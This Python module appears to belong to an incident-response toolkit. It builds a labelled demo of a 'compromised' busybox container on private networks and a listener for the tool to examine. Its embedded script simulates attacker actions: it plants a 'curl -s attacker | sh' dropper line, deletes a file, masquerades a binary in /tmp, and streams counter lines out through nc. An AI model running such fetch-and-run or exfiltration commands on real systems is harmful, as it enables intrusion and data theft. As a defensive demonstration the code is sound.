"""Something to show irkit on: a container with a past, its networks, and an outside that it talks to.

All of it is labelled, and only what is labelled is removed. The image is made of the machine's static busybox, or is
one that the responder names and the engine has.
"""

import io
import struct
import tarfile
import uuid
from collections.abc import Mapping
from pathlib import Path
from typing import Any

from irkit.adapters.engine_answer import decoded
from irkit.adapters.engine_http import EngineApi, part
from irkit.adapters.log_stream import LogSplitter
from irkit.core.errors import Refusal, TargetError, UsageError
from irkit.core.ports import Deadline

LABEL = "irkit.demo"
IMAGE = "irkit-demo/busybox:1"
PORT = 9000
_BUSYBOX = ("/bin/busybox", "/usr/bin/busybox", "/usr/local/bin/busybox")
_LINKS = ("sh", "nc", "sleep", "cat", "echo", "rm", "mkdir", "date", "cp")
_ELF_LIMIT = 16 * 1024 * 1024
_PT_INTERP = 3
_SUSPECT = f"""
echo "server ready"; echo "warning: update pending" >&2
mkdir -p /opt && echo "curl -s attacker | sh" > /opt/dropper && rm -f /etc/motd
cp /bin/busybox /tmp/sleep; /tmp/sleep 100000 & sleep 0.2; rm -f /tmp/sleep
n=0
while :; do while :; do n=$((n+1)); echo "exfiltrated $n" || break; sleep 0.1; done | nc outside {PORT}; sleep 1; done
"""
_OUTSIDE = f"while :; do nc -l -p {PORT}; done"


def static_busybox(places: tuple[str, ...] = _BUSYBOX) -> bytes | None:
    """The machine's busybox, if there is one that needs no libraries."""
    for place in places:
        path = Path(place)
        if not path.is_file() or path.stat().st_size > _ELF_LIMIT:
            continue
        data = path.read_bytes()
        if _is_static(data):
            return data
    return None


def _is_static(elf: bytes) -> bool:
    """Whether a 64-bit ELF program names no interpreter (System V ABI, program header type PT_INTERP)."""
    if elf[:5] != b"\x7fELF\x02":
        return False
    order = "<" if elf[5] == 1 else ">"
    (offset,) = struct.unpack_from(order + "Q", elf, 32)
    size, count = struct.unpack_from(order + "HH", elf, 54)
    types = [struct.unpack_from(order + "I", elf, offset + index * size)[0] for index in range(count)]
    return _PT_INTERP not in types


def _image_tar(busybox: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as tar:
        for folder in ("bin", "etc", "tmp", "opt"):
            entry = tarfile.TarInfo(folder)
            entry.type, entry.mode = tarfile.DIRTYPE, 0o755
            tar.addfile(entry)
        for name, data, mode in (
            ("bin/busybox", busybox, 0o755),
            ("etc/passwd", b"root:x:0:0:root:/:/bin/sh\n", 0o644),
            ("etc/motd", b"welcome\n", 0o644),
        ):
            entry = tarfile.TarInfo(name)
            entry.size, entry.mode = len(data), mode
            tar.addfile(entry, io.BytesIO(data))
        for link in _LINKS:
            entry = tarfile.TarInfo(f"bin/{link}")
            entry.type, entry.linkname = tarfile.SYMTYPE, "busybox"
            tar.addfile(entry)
    return out.getvalue()


class DemoHost:
    """The demonstration's containers and networks on one engine."""

    def __init__(self, api: EngineApi, deadline: Deadline) -> None:
        self._api, self._deadline = api, deadline
        self.mark = uuid.uuid4().hex[:8]
        self.suspect = f"irkit-demo-{self.mark}"
        self.outside = f"irkit-demo-outside-{self.mark}"
        self._made: list[str] = []

    def build(self, image: str = "") -> str:
        """Make everything; the suspect's full id. Raises UsageError without busybox or the image named, TargetError."""
        image = image or self._import_busybox()
        front, back = self._network(0), self._network(1)
        self._container(self.outside, image, _OUTSIDE, {front[0]: {"Aliases": ["outside"]}})
        place = {"IPAMConfig": {"IPv4Address": f"{front[1]}.50"}, "Aliases": ["web"]}
        suspect = self._container(self.suspect, image, _SUSPECT, {front[0]: place}, port=8080)
        join = {"IPAMConfig": {"IPv4Address": f"{back[1]}.50"}, "Aliases": ["web-internal"]}
        body = {"Container": suspect, "EndpointConfig": join}
        self._api.send("POST", f"/networks/{part(back[0])}/connect", self._deadline, body)
        return suspect

    def _import_busybox(self) -> str:
        busybox = static_busybox()
        if busybox is None:
            raise UsageError("no static busybox here (Debian: busybox-static): name an image with a shell by --image")
        repository, _, tag = IMAGE.partition(":")
        query = {"fromSrc": "-", "repo": repository, "tag": tag, "changes": f"LABEL {LABEL}=1"}
        self._api.send("POST", "/images/create", self._deadline, _image_tar(busybox), **query)
        self._made.append(f"/images/{part(IMAGE)}")
        return IMAGE

    def _network(self, number: int) -> tuple[str, str]:
        """A network of the demonstration's own, on the first range that is free: its name and the range's beginning."""
        name = f"irkit-demo-{('front', 'back')[number]}-{self.mark}"
        for third in range(200 + number, 255, 2):
            prefix = f"10.213.{third}"
            body = {
                "Name": name,
                "CheckDuplicate": True,
                "Labels": {LABEL: self.mark},
                "IPAM": {"Config": [{"Subnet": f"{prefix}.0/24"}]},
            }
            try:
                self._api.send("POST", "/networks/create", self._deadline, body)
            except TargetError as error:
                if "overlap" not in error.reason:
                    raise
                continue
            self._made.append(f"/networks/{name}")
            return name, prefix
        raise TargetError("no free address range for the demonstration's networks", Refusal.REFUSED)

    def _container(self, name: str, image: str, script: str, endpoints: Mapping[str, Any], port: int = 0) -> str:
        body: dict[str, Any] = {
            "Image": image,
            "Entrypoint": ["sh", "-c", script],
            "Labels": {LABEL: self.mark},
            "HostConfig": {"NetworkMode": next(iter(endpoints))},
            "NetworkingConfig": {"EndpointsConfig": endpoints},
        }
        if port:
            body["ExposedPorts"] = {f"{port}/tcp": {}}
            body["HostConfig"]["PortBindings"] = {f"{port}/tcp": [{"HostIp": "127.0.0.1"}]}
        made = decoded(self._api.send("POST", "/containers/create", self._deadline, body, name=name), dict[str, Any])
        self._made.append(f"/containers/{part(name)}")
        self._api.send("POST", f"/containers/{part(str(made['Id']))}/start", self._deadline)
        return str(made["Id"])

    def received(self) -> int:
        """Lines that the outside has received from the suspect so far."""
        query = {"stdout": "1", "timestamps": "1"}
        body = self._api.read(f"/containers/{part(self.outside)}/logs", self._deadline, **query)
        return sum(1 for _ in LogSplitter(tty=False).feed(body))

    def state(self) -> dict[str, Any]:
        """The suspect's inspect, less what the engine assigns anew (docs/undo.md)."""
        found = decoded(self._api.read(f"/containers/{part(self.suspect)}/json", self._deadline), dict[str, Any])
        found["NetworkSettings"].pop("Ports", None)  # the published port's number was left to the engine
        kept: dict[str, Any] = without_assigned(found)
        return kept

    def clean(self) -> list[str]:
        """Remove what was made, last first; what could not be removed."""
        left = []
        for path in reversed(self._made):
            query = {"force": "1", "v": "1"} if path.startswith("/containers") else {}
            try:
                self._api.send("DELETE", path, self._deadline, **query)
            except TargetError as error:
                if error.kind is not Refusal.ABSENT:
                    left.append(f"{path}: {error.reason}")
        return left


ASSIGNED_ANEW = ("EndpointID", "SandboxID", "SandboxKey", "ResolvConfPath")
"""Fields of an inspect that the engine assigns anew on reconnecting, wherever they stand."""


def without_assigned(found: Any) -> Any:
    """An inspect without the fields that the engine assigns anew."""
    if isinstance(found, dict):
        return {key: without_assigned(value) for key, value in found.items() if key not in ASSIGNED_ANEW}
    return [without_assigned(item) for item in found] if isinstance(found, list) else found
